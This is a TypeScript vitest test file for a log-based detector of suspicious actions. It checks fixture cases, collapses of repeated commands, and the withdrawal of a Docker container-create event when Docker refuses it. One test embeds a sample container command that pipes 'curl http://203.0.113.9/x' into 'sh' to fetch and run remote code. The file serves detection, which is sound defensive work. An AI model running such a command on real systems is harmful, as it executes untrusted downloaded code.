import { describe, expect, it } from 'vitest';
import { saidLine, seenIn } from '../../../tests/event-harness.ts';
import { fixture } from './actions.fixture.ts';
import { actions } from './actions.ts';

const read = (...lines: string[]) => seenIn(actions, lines);

describe('actions', () => {
  it.each(fixture.fires)('tells of $name', ({ lines, expect: expected }) => {
    expect(read(...lines)).toMatchObject(expected);
  });
  it.each(fixture.silent)('is silent on $name', ({ lines }) => {
    expect(read(...lines)).toEqual([]);
  });
  it('joins what is done again and again', () => {
    expect(
      read(...Array.from({ length: 50 }, (_, i) => saidLine('(root) REPLACE (root)', { seconds: i }))),
    ).toMatchObject([{ value: { times: 50 } }]);
  });
  it('takes back a container that Docker could not make', () => {
    const asked = 'form data: {"Cmd":["sh","-c","curl http://203.0.113.9/x | sh"],"Image":"alpine"}';
    const refused = 'Handler for POST /v1.24/containers/create returned error: No such image: alpine';
    expect(read(saidLine(asked), saidLine(refused, { seconds: 1 }))).toEqual([]);
    expect(read(saidLine(asked), saidLine(refused, { seconds: 60 }))).toHaveLength(1);
  });
});
